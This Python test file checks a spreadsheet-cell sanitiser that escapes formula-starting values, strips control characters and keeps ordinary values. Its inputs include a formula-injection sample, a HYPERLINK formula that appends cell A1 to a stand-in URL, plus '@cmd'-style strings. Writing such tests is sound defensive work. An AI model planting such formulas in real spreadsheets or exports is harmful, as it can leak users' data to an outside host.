"""Spreadsheet cells: formulas neutralised, control characters dropped, other values kept."""

import pytest

from review.cells import safe_cell


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x"&A1,"点击")', "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_get_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


def test_formula_text_is_kept_after_the_apostrophe():
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("@cmd") == "'@cmd"


@pytest.mark.parametrize("text,expected", [("东陵市\x07应急局", "东陵市应急局"), ("a\x00b\x1fc", "abc"),
                                           ("第一行\n第二行", "第一行\n第二行")])
def test_control_characters_are_dropped_but_newlines_kept(text, expected):
    assert safe_cell(text) == expected


@pytest.mark.parametrize("value", [0, -3, 1.5, -0.25, None, "城关镇", "2025年1—6月"])
def test_ordinary_values_pass_through(value):
    assert safe_cell(value) == value
